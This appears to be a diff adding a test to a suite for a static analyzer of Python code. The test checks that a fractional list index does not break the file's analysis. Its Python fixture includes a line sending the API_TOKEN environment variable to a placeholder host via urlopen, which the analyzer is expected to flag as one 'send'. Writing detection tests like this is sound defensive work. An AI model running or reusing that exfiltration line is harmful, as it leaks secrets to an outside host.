@@ -765,3 +765,11 @@ describe("names inside a test of their value", () => {
     expect(of(r, "delete").map((d) => d.scope)).toContain("home");
   });
 });
+
+describe("indexes the evaluator cannot place", () => {
+  it("a fractional index (a TypeError in Python) picks nothing instead of breaking the file's analysis", () => {
+    const r = run(`import os, urllib.request\nW = ["a", "b", "c"]\nlabel = f"{W[len(W) / 2]}"\nurllib.request.urlopen("https://x.invalid/u", data=os.environ["API_TOKEN"].encode())\n`);
+    expect(r.collector.failures).toEqual([]);
+    expect(of(r, "send").length).toBe(1);
+  });
+});
